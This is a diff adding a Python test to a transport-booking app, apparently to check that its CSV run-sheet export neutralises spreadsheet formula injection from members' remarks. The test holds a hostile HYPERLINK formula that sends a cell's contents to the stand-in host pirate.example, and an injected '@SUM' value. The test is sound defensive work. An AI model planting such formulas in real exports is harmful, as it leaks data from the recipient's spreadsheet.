@@ -292,3 +292,15 @@ def test_a_member_changing_a_confirmed_trip_sends_it_back_to_planned(adviser, da
     assert status_of(day.lea_trip) == "planned"
     line = {line.trip_id: line for line in run_sheet.run_sheet(adviser.token, DAY)}[day.lea_trip]
     assert (line.pickup_time, line.status_label) == ("08:30", "planifié")
+
+
+def test_a_hostile_remark_reaches_the_spreadsheet_as_text(adviser, claire):
+    """Security review, finding 7: a member's remark must not run as a formula on the provider's computer."""
+    open_transport(adviser, CLAIRE)
+    home, school = add_home(claire, complement="@SUM(A1:A9)"), add_school(claire)
+    hostile = '=HYPERLINK("http://pirate.example/?d="&C2;"Détails")'
+    trips.book(claire.token, request(beneficiary_id(CLAIRE, "Léa"), home, school, DAY, notes=hostile))
+    text = run_sheet.run_sheet_csv(adviser.token, DAY).lstrip("\ufeff")
+    [row] = list(csv.reader(io.StringIO(text), delimiter=";"))[1:]
+    assert row[5] == "'" + hostile
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)
